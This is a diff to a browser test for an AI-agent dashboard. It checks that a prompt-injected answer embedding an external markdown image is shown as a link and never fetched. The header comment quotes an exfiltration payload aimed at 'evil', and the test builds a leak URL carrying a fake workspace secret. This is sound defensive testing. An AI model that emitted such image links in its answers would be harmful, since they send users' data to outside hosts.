@@ -4,14 +4,15 @@
  * hosted elsewhere as a link, so a prompt-injected answer like `![x](https://evil/?d=secret)` is
  * never fetched — and does not trip a CSP violation either. In Debian's Chromium: a task's answer
  * carries an external image (a local server on another origin, counting its requests) and a
- * workspace image the agent wrote; the external one renders as a link, no request reaches it, the
- * workspace one loads as an <img>, and the console stays clean.
+ * workspace image the agent wrote; opened from the session list, the external one renders as a
+ * link, no request reaches it, the workspace one loads as an <img>, and the console stays clean
+ * (no CSP violation: test/helpers/browser.ts also listens for securitypolicyviolation events).
  */
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
-import type { Browser, Page } from "playwright-core";
+import bundle from "../../web/dist/bundle.json" with { type: "json" };
 import { createProfile, submit, waitTask } from "../helpers/agent.ts";
 import { startTestApp, type TestApp } from "../helpers/app.ts";
-import { launchBrowser } from "../helpers/browser.ts";
+import { type Browser, expectClean, launchBrowser, openPage, type WatchedPage } from "../helpers/browser.ts";
 import { type MockProviderServer, startMockAnthropic } from "../helpers/mock-anthropic.ts";
 import { createUser, type TestUser } from "../helpers/users.ts";
 
@@ -31,8 +32,11 @@ afterAll(async () => {
 
 const directives = (csp: string) => new Map(csp.split(";").map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k!, v] as const));
 
+/** The dashboard's pages and its hashed assets (web/dist/bundle.json, built by the test preload). */
+const ASSETS = Object.keys((bundle as { assets: Record<string, unknown> }).assets).map((name) => `/assets/${name}`);
+
 describe("the header", () => {
-  test.each(["/", "/app.js", "/app.css"])("%s: img-src is exactly 'self' data:", async (path) => {
+  test.each(["/", "/setup", "/sessions/sess_any", ...ASSETS])("%s: img-src is exactly 'self' data:", async (path) => {
     const res = await t.fetch(path);
     expect(res.status).toBe(200);
     const csp = directives(res.headers.get("content-security-policy")!);
@@ -45,8 +49,7 @@ describe("the header", () => {
 
 describe("in the browser", () => {
   let browser: Browser;
-  let page: Page;
-  const problems: string[] = [];
+  let watched: WatchedPage;
   /** Every request the external image host saw. */
   const hits: string[] = [];
   let external: ReturnType<typeof Bun.serve>;
@@ -61,17 +64,11 @@ describe("in the browser", () => {
       },
     });
     browser = await launchBrowser();
-    const context = await browser.newContext();
-    const [name, value] = user.cookie.split("=") as [string, string];
-    await context.addCookies([{ name, value, url: t.url }]);
-    page = await context.newPage();
-    page.on("pageerror", (e) => problems.push(`pageerror: ${e.message}`));
-    page.on("console", (m) => {
-      if (m.type() === "error" || /Content Security Policy|Refused to/i.test(m.text())) problems.push(`console: ${m.text()}`);
-    });
+    // Signed in with the user's cookie; console errors, page errors and CSP violations are problems.
+    watched = await openPage(browser, { url: t.url, cookie: user.cookie });
     // Every request the page makes, wherever it goes.
-    page.on("request", (r) => {
-      if (!r.url().startsWith(t.url) && !r.url().startsWith(t.wsUrl)) problems.push(`request elsewhere: ${r.url()}`);
+    watched.page.on("request", (r) => {
+      if (!r.url().startsWith(t.url) && !r.url().startsWith(t.wsUrl)) watched.problems.push(`request elsewhere: ${r.url()}`);
     });
   });
   afterAll(async () => {
@@ -80,6 +77,7 @@ describe("in the browser", () => {
   });
 
   test("an external image in a result is shown as a link and never fetched; a workspace image loads; no CSP violation", async () => {
+    const { page, problems } = watched;
     const leak = `http://127.0.0.1:${external.port}/pixel.gif?d=SECRET-FROM-THE-WORKSPACE`;
     const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="teal"/></svg>';
     const profileId = await createProfile(t, user, { mock, tools: ["Write"] });
@@ -93,30 +91,32 @@ describe("in the browser", () => {
     expect(task.status).toBe("completed");
     expect(task.result_text).toContain(`![pixel](${leak})`);
 
+    // Opened from the session list, as a user would.
     await page.goto(t.url);
-    await page.waitForSelector(`#sessions li`);
-    await page.click(`#sessions li:has-text("Chart it")`);
-    const answer = await page.waitForSelector(".msg.agent:not(.streaming) .meta", { timeout: 30_000 });
-    expect(answer).toBeTruthy();
+    await page.getByRole("navigation", { name: "Sessions" }).getByRole("link", { name: /Chart it/ }).click();
+    await page.waitForURL(`${t.url}/sessions/${session_id}`);
+    const turn = page.getByRole("article").last();
+    await turn.getByText(/^[\d,]+ in · [\d,]+ out · \$[\d.]+$/).waitFor({ timeout: 30_000 });
 
     // The external image is a link to it, not an <img>.
-    const link = page.locator(`.msg.agent a[href="${leak}"]`);
+    const link = turn.getByRole("link", { name: /pixel/ });
     expect(await link.count()).toBe(1);
-    expect(await link.textContent()).toContain("pixel");
+    expect(await link.getAttribute("href")).toBe(leak);
+    expect(await link.getAttribute("target")).toBe("_blank");
     expect(await page.locator(`img[src^="http://127.0.0.1:${external.port}"]`).count()).toBe(0);
 
     // The workspace image, signed and same-origin, is an <img> that loaded.
-    const img = page.locator(`.msg.agent img[alt="chart"]`);
+    const img = turn.getByRole("img", { name: "chart" });
     expect(await img.count()).toBe(1);
     expect(await img.getAttribute("src")).toStartWith(`${t.url}/files/`);
+    await img.scrollIntoViewIfNeeded(); // it loads lazily
     await page.waitForFunction(() => {
-      const el = document.querySelector<HTMLImageElement>('.msg.agent img[alt="chart"]');
+      const el = document.querySelector<HTMLImageElement>('article img[alt="chart"]');
       return !!el && el.complete && el.naturalWidth > 0;
     });
 
     await Bun.sleep(300);
     expect(hits).toEqual([]);
-    expect(problems).toEqual([]);
-    expect(session_id).toMatch(/^sess_/);
+    expectClean(problems);
   }, 120_000);
 });
